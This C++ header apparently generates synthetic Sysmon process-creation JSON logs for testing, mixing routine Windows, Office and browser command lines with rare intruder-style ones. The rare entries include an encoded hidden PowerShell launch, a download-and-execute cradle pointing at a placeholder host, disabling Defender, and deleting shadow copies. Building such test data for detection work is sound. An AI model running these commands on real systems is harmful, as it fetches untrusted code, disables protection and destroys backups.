// SPDX-FileCopyrightText: 2026 The Yagura authors
// SPDX-License-Identifier: Apache-2.0
#pragma once

#include <array>
#include <cstdint>
#include <iterator>
#include <random>
#include <string>
#include <string_view>

#include <fmt/format.h>

#include "base/text.hpp"

namespace yagura {

// Process creations as Sysmon tells them, one flat JSON object of about 1.4 KB each: the programs,
// services, scripts and browsers of an office, with their arguments made up anew each time, and
// one in two hundred that an administrator or an intruder might have typed. The same seed gives
// the same lines.
class SysmonLines {
 public:
  explicit SysmonLines(std::uint64_t seed) : random_(seed) {}

  std::string next() {
    const Program& program = choose();
    const std::string image = fill(program.image);
    const Parent parent = parent_of(program);
    const std::string user = fill("EXAMPLE\\{user}");
    const bool system = program.level == "System";
    std::string line = fmt::format(
        R"({{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc{:04}.example.lg.jp","RuleName":"-","UtcTime":"2026-03-{:02} {:02}:{:02}:{:02}.{:03}","ProcessGuid":"{}","ProcessId":{},)",
        below(2000), below(28) + 1, below(24), below(60), below(60), below(1000), guid(),
        below(20000) + 4);
    add(line, "Image", image);
    add(line, "FileVersion", fill(program.version));
    add(line, "Description", program.description);
    add(line, "Product", program.product);
    add(line, "Company", program.company);
    add(line, "OriginalFileName", program.original);
    add(line, "CommandLine", fill(program.commands[below(kCommands)]));
    add(line, "CurrentDirectory", system ? "C:\\Windows\\System32\\" : fill("C:\\Users\\{user}\\"));
    add(line, "User", system ? "NT AUTHORITY\\SYSTEM" : user);
    add(line, "LogonGuid", guid());
    add(line, "LogonId", fmt::format("0x{:x}", system ? 0x3e7 : below(1U << 28U)));
    line += fmt::format("\"TerminalSessionId\":{},", system ? 0 : below(4) + 1);
    add(line, "IntegrityLevel", program.level);
    add(line, "Hashes", hashes(image));
    add(line, "ParentProcessGuid", guid());
    line += fmt::format("\"ParentProcessId\":{},", below(20000) + 4);
    add(line, "ParentImage", parent.image);
    add(line, "ParentCommandLine", fill(parent.command));
    add(line, "ParentUser", system ? "NT AUTHORITY\\SYSTEM" : user);
    line.back() = '}';
    return line;
  }

 private:
  static constexpr std::size_t kCommands = 3;
  // `{name}` in a text is filled anew each time; see fill().
  struct Program {
    unsigned weight;
    std::string_view image;
    std::string_view original;
    std::string_view description;
    std::string_view product;
    std::string_view company;
    std::string_view version;
    std::string_view level;
    std::array<std::string_view, kCommands> commands;
  };
  struct Parent {
    std::string_view image;
    std::string_view command;
  };

  static constexpr std::string_view kWindows = "Microsoft® Windows® Operating System";
  static constexpr std::string_view kMicrosoft = "Microsoft Corporation";
  static constexpr std::string_view kBuild = "10.0.19041.{number} (WinBuild.160101.0800)";

  // clang-format off
  static constexpr std::array kPrograms{
    Program{90, R"(C:\Windows\System32\svchost.exe)", "svchost.exe", "Host Process for Windows Services", kWindows, kMicrosoft, kBuild, "System",
      {R"(C:\WINDOWS\system32\svchost.exe -k netsvcs -p -s {word})", R"(C:\WINDOWS\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s {word})", R"(C:\WINDOWS\system32\svchost.exe -k {word} -p)"}},
    Program{60, R"(C:\Program Files\Google\Chrome\Application\chrome.exe)", "chrome.exe", "Google Chrome", "Google Chrome", "Google LLC", "122.0.{number}.{number}", "Low",
      {R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=ja --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={number} --time-ticks-at-unix-epoch=-{number} --launch-time-ticks={number} --field-trial-handle={number},i,{number},{number},262144 --variations-seed-version --mojo-platform-channel-handle={number} /prefetch:1)",
       R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type={word}.mojom.{word} --lang=ja --service-sandbox-type=service --mojo-platform-channel-handle={number} /prefetch:8)",
       R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --single-argument https://www.{word}.lg.jp/{word}/{word}.html?id={number})"}},
    Program{50, R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)", "msedge.exe", "Microsoft Edge", "Microsoft Edge", kMicrosoft, "121.0.{number}.{number}", "Medium",
      {R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --lang=ja --renderer-client-id={number} --time-ticks-at-unix-epoch=-{number} --field-trial-handle={number},i,{number},{number},262144 --mojo-platform-channel-handle={number} /prefetch:1)",
       R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start)",
       R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=gpu-process --gpu-preferences={word}{word} --mojo-platform-channel-handle={number})"}},
    Program{40, R"(C:\Windows\System32\conhost.exe)", "CONHOST.EXE", "Console Window Host", kWindows, kMicrosoft, kBuild, "Medium",
      {R"(\??\C:\WINDOWS\system32\conhost.exe 0xffffffff -ForceV1)", R"(\??\C:\Windows\system32\conhost.exe 0x4)", R"(\??\C:\WINDOWS\system32\conhost.exe 0xffffffff -ForceV1)"}},
    Program{40, R"(C:\Windows\System32\cmd.exe)", "Cmd.Exe", "Windows Command Processor", kWindows, kMicrosoft, kBuild, "Medium",
      {R"(C:\WINDOWS\system32\cmd.exe /c "D:\{word}\{word}.bat" {word} {number})", R"(cmd /c ""C:\Program Files\{word}\bin\{word}.cmd" --{word}={number}")", R"("C:\Windows\System32\cmd.exe" /d /s /c "npm run {word}")"}},
    Program{30, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "PowerShell.EXE", "Windows PowerShell", kWindows, kMicrosoft, kBuild, "High",
      {R"(powershell.exe -ExecutionPolicy Bypass -NoProfile -File "C:\Scripts\{word}_{word}.ps1" -Site {word} -Count {number})", R"("C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe" -NonInteractive -Command "Get-Service {word} | Select-Object Status")", R"(powershell -Command "Get-ChildItem D:\{word} -Recurse | Measure-Object")"}},
    Program{25, R"(C:\Windows\System32\backgroundTaskHost.exe)", "backgroundTaskHost.exe", "Background Task Host", kWindows, kMicrosoft, kBuild, "AppContainer",
      {R"("C:\WINDOWS\system32\backgroundTaskHost.exe" -ServerName:{word}.AppX{hex}.mca)", R"("C:\WINDOWS\system32\backgroundTaskHost.exe" -ServerName:CortanaUI.AppX{hex}.mca)", R"("C:\WINDOWS\system32\backgroundTaskHost.exe" -ServerName:App.AppX{hex}.mca)"}},
    Program{25, R"(C:\Windows\System32\taskhostw.exe)", "taskhostw.exe", "Host Process for Windows Tasks", kWindows, kMicrosoft, kBuild, "Medium",
      {"taskhostw.exe", "taskhostw.exe Install $(Arg0)", "taskhostw.exe {word}"}},
    Program{25, R"(C:\Windows\System32\RuntimeBroker.exe)", "RuntimeBroker.exe", "Runtime Broker", kWindows, kMicrosoft, kBuild, "Medium",
      {R"(C:\Windows\System32\RuntimeBroker.exe -Embedding)", R"(C:\Windows\System32\RuntimeBroker.exe -Embedding)", R"(C:\Windows\System32\RuntimeBroker.exe -Embedding)"}},
    Program{20, R"(C:\Windows\System32\SearchProtocolHost.exe)", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", kWindows, kMicrosoft, "7.0.19041.{number}", "System",
      {R"x("C:\WINDOWS\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{number}_ Global\UsGthrCtrlFltPipeMssGthrPipe{number} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon")x",
       R"("C:\WINDOWS\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{number}_ Global\UsGthrCtrlFltPipeMssGthrPipe{number})", R"("C:\WINDOWS\system32\SearchFilterHost.exe" 0 {number} {number} {number} 8192 {number})"}},
    Program{20, R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)", "WinWord.exe", "Microsoft Word", "Microsoft Office", kMicrosoft, "16.0.{number}.{number}", "Medium",
      {R"("C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\{word}\{word}_{number}.docx" /o "")", R"("C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "\\fs{number}\{word}\{word}.docx")", R"("C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /Automation -Embedding)"}},
    Program{20, R"(C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE)", "Excel.exe", "Microsoft Excel", "Microsoft Office", kMicrosoft, "16.0.{number}.{number}", "Medium",
      {R"("C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "\\fs{number}\{word}\{word}{number}.xlsx")", R"("C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\{user}\Desktop\{word}.xlsm")", R"("C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE")"}},
    Program{15, R"(C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe)", "Teams.exe", "Microsoft Teams", "Microsoft Teams", kMicrosoft, "1.6.{number}", "Medium",
      {R"("C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=renderer --field-trial-handle={number},{number} --lang=ja --app-user-model-id=com.squirrel.Teams.Teams)", R"("C:\Users\{user}\AppData\Local\Microsoft\Teams\Update.exe" --processStart "Teams.exe")", R"("C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=utility --{word})"}},
    Program{15, R"(C:\Windows\System32\wbem\WmiPrvSE.exe)", "Wmiprvse.exe", "WMI Provider Host", kWindows, kMicrosoft, kBuild, "System",
      {R"(C:\WINDOWS\system32\wbem\wmiprvse.exe -secured -Embedding)", R"(C:\WINDOWS\system32\wbem\wmiprvse.exe -Embedding)", R"(C:\WINDOWS\system32\wbem\wmiprvse.exe)"}},
    Program{15, R"(C:\Windows\System32\rundll32.exe)", "RUNDLL32.EXE", "Windows host process (Rundll32)", kWindows, kMicrosoft, kBuild, "Medium",
      {R"("C:\WINDOWS\system32\rundll32.exe" C:\WINDOWS\system32\shell32.dll,Control_RunDLL {word}.cpl)", R"(C:\WINDOWS\System32\rundll32.exe -localserver {guid})", R"(rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh)"}},
    Program{12, R"(C:\Program Files\Git\cmd\git.exe)", "git.exe", "Git for Windows", "Git", "The Git Development Community", "2.43.{number}", "Medium",
      {R"(git.exe fetch --all --tags origin)", R"("C:\Program Files\Git\cmd\git.exe" -c core.quotepath=false log --oneline {hex}..HEAD -- src/{word}/{word}.java)", R"(git status -z -uall)"}},
    Program{12, R"(C:\Program Files\Java\jre1.8.0_{number}\bin\java.exe)", "java.exe", "Java(TM) Platform SE binary", "Java(TM) Platform SE 8", "Oracle Corporation", "8.0.{number}", "High",
      {R"("C:\Program Files\Java\bin\java.exe" -Xms512m -Xmx2048m -Dapp.home=D:\{word} -jar D:\{word}\lib\{word}-{number}.jar --port={number})", R"(java -cp D:\{word}\classes jp.lg.{word}.{word}.Main {number})", R"("C:\Program Files\Java\bin\java.exe" -version)"}},
    Program{12, R"(C:\Python311\python.exe)", "python.exe", "Python", "Python", "Python Software Foundation", "3.11.{number}", "Medium",
      {R"(python D:\{word}\{word}.py --in D:\data\{word}_{number}.csv --out D:\data\{word}.json)", R"("C:\Python311\python.exe" -m pip list)", R"(python.exe -u C:\{word}\{word}_worker.py {number})"}},
    Program{12, R"(C:\Windows\System32\msiexec.exe)", "msiexec.exe", "Windows® installer", "Windows Installer - Unicode", kMicrosoft, "5.0.19041.{number}", "System",
      {R"(C:\WINDOWS\system32\msiexec.exe /V)", R"(C:\Windows\syswow64\MsiExec.exe -Embedding {hex}{hex} E Global\MSI0000)", R"("C:\Windows\System32\msiexec.exe" /i "\\fs{number}\dist\{word}-{number}.msi" /passive)"}},
    Program{10, R"(C:\Program Files\{word}\{word}\{word}.exe)", "-", "-", "-", "-", "-", "Medium",
      {R"("C:\Program Files\{word}\{word}.exe" /tray)", R"("C:\Program Files\{word}\{word}.exe" --config "C:\ProgramData\{word}\{word}.ini" --id {guid})", R"("C:\Program Files\{word}\{word}.exe" {number} {hex})"}},
    Program{8, R"(C:\Windows\System32\net.exe)", "net.exe", "Net Command", kWindows, kMicrosoft, kBuild, "Medium",
      {R"(net use Z: \\fs{number}\{word} /persistent:yes)", R"(net  start {word})", R"("C:\WINDOWS\system32\net.exe" time \\dc{number})"}},
    Program{8, R"(C:\Windows\System32\reg.exe)", "reg.exe", "Registry Console Tool", kWindows, kMicrosoft, kBuild, "High",
      {R"(reg  query "HKLM\SOFTWARE\{word}\{word}" /v Version)", R"(REG ADD HKCU\Software\{word} /v {word} /t REG_DWORD /d {number} /f)", R"("C:\WINDOWS\system32\reg.exe" query HKCU\Environment)"}},
    Program{8, R"(C:\Windows\System32\schtasks.exe)", "schtasks.exe", "Task Scheduler Configuration Tool", kWindows, kMicrosoft, kBuild, "High",
      {R"(schtasks /query /fo CSV /v)", R"("C:\WINDOWS\System32\schtasks.exe" /run /tn "{word}\{word}")", R"(schtasks.exe /end /tn \{word}\{word})"}},
    Program{6, R"(C:\Windows\System32\wevtutil.exe)", "wevtutil.exe", "Eventing Command Line Utility", kWindows, kMicrosoft, kBuild, "High",
      {"wevtutil gl Security", R"(wevtutil.exe epl Application D:\{word}\{word}_{number}.evtx)", "wevtutil el"}},
    Program{6, R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.{number}-0\MpCmdRun.exe)", "MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility", kWindows, kMicrosoft, "4.18.{number}.3", "System",
      {R"("C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.{number}-0\MpCmdRun.exe" GetDeviceTicket -AccessKey {guid})", R"("C:\Program Files\Windows Defender\mpcmdrun.exe" -IdleTask -TaskName WdCacheMaintenance)", R"("C:\Program Files\Windows Defender\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges)"}},
    Program{2, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "PowerShell.EXE", "Windows PowerShell", kWindows, kMicrosoft, kBuild, "High",
      {R"(powershell -nop -w hidden -enc {hex}{hex}{hex}{hex}{hex}{hex})", R"(powershell.exe IEX (New-Object Net.WebClient).DownloadString('http://{word}.example/{word}.ps1'))", R"(powershell Set-MpPreference -DisableRealtimeMonitoring $true)"}},
    Program{1, R"(C:\Windows\System32\vssadmin.exe)", "VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service", kWindows, kMicrosoft, kBuild, "High",
      {"vssadmin.exe delete shadows /all /quiet", "vssadmin list shadows", "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB"}},
  };
  static constexpr std::array kParents{
    Parent{R"(C:\Windows\System32\services.exe)", R"(C:\WINDOWS\system32\services.exe)"},
    Parent{R"(C:\Windows\explorer.exe)", R"(C:\WINDOWS\Explorer.EXE)"},
    Parent{R"(C:\Windows\System32\svchost.exe)", R"(C:\WINDOWS\system32\svchost.exe -k {word} -p -s {word})"},
    Parent{R"(C:\Windows\System32\cmd.exe)", R"(C:\WINDOWS\system32\cmd.exe /c "D:\{word}\{word}.bat")"},
    Parent{R"(C:\Program Files\Microsoft VS Code\Code.exe)", R"("C:\Program Files\Microsoft VS Code\Code.exe" --type=utility --{word})"},
    Parent{R"(C:\Windows\System32\taskeng.exe)", R"(taskeng.exe {guid} S-1-5-18:NT AUTHORITY\System:Service:)"},
  };
  static constexpr std::array<std::string_view, 48> kWords{
    "soumu", "kikaku", "zaimu", "juki", "fukushi", "kensetsu", "report", "monthly", "archive", "billing", "ledger", "Schedule",
    "Themes", "EventSystem", "ProfSvc", "gpsvc", "wuauserv", "Winmgmt", "DcomLaunch", "netprofm", "storage", "network", "audio", "data_decoder",
    "inventory", "sync", "daily", "invoice", "roster", "agenda", "minutes", "survey", "payroll", "census", "library", "school",
    "clinic", "tax", "water", "road", "park", "permit", "backup", "monitor", "agent", "updater", "viewer", "client"};
  static constexpr std::array<std::string_view, 24> kUsers{
    "yamada", "sato", "suzuki", "takahashi", "tanaka", "ito", "watanabe", "nakamura", "kobayashi", "kato", "yoshida", "sasaki",
    "yamaguchi", "matsumoto", "inoue", "kimura", "hayashi", "shimizu", "yamazaki", "mori", "abe", "ikeda", "hashimoto", "ishikawa"};
  // clang-format on

  std::uint32_t below(std::uint32_t n) { return static_cast<std::uint32_t>(random_() % n); }

  const Program& choose() {
    std::uint32_t total = 0;
    for (const Program& program : kPrograms) {
      total += program.weight;
    }
    std::uint32_t at = below(total);
    for (const Program& program : kPrograms) {
      if (at < program.weight) {
        return program;
      }
      at -= program.weight;
    }
    return kPrograms.front();
  }

  // Mostly as it is in life: services start services, browsers start themselves.
  Parent parent_of(const Program& program) {
    if (program.level == "System") {
      return kParents[below(8) == 0 ? 2 : 0];
    }
    const bool browser = program.description == "Google Chrome" || program.level == "AppContainer";
    if (browser && below(10) != 0) {
      return program.level == "AppContainer" ? kParents[2] : Parent{program.image, program.image};
    }
    constexpr std::array<std::size_t, 8> kUsual{1, 1, 1, 3, 3, 2, 4, 5};
    return kParents[kUsual[below(kUsual.size())]];
  }

  std::string guid() {
    return fmt::format("{{{:08x}-{:04x}-{:04x}-{:04x}-{:012x}}}", below(~0U), below(65536),
                       below(65536), below(65536), random_() >> 16U);
  }

  // A program has one digest, as long as it is the same file.
  static std::string hashes(std::string_view image) {
    std::uint64_t state = 1469598103934665603U;
    for (const char c : image) {
      state = (state ^ static_cast<unsigned char>(c)) * 1099511628211U;
    }
    std::mt19937_64 digest(state);
    return fmt::format(
        "SHA1={:016X}{:016X}{:08X},MD5={:016X}{:016X},SHA256={:016X}{:016X}{:016X}{:016X},IMPHASH={"
        ":016X}{:016X}",
        digest(), digest(), digest() >> 32U, digest(), digest(), digest(), digest(), digest(),
        digest(), digest(), digest());
  }

  std::string fill(std::string_view text) {
    std::string out;
    while (!text.empty()) {
      const std::size_t open = text.find('{');
      const std::size_t close = text.find('}', open);
      out += text.substr(0, open);
      if (open == std::string_view::npos || close == std::string_view::npos) {
        break;
      }
      const std::string_view name = text.substr(open + 1, close - open - 1);
      out += name == "word"     ? std::string(kWords[below(kWords.size())])
             : name == "user"   ? std::string(kUsers[below(kUsers.size())])
             : name == "number" ? fmt::to_string(below(30000))
             : name == "hex"    ? fmt::format("{:016x}", random_())
                                : guid();
      text.remove_prefix(close + 1);
    }
    return out;
  }

  static void add(std::string& line, std::string_view name, std::string_view value) {
    fmt::format_to(std::back_inserter(line), "\"{}\":\"", name);
    append_json_escaped(line, value);
    line += "\",";
  }

  std::mt19937_64 random_;
};

}  // namespace yagura
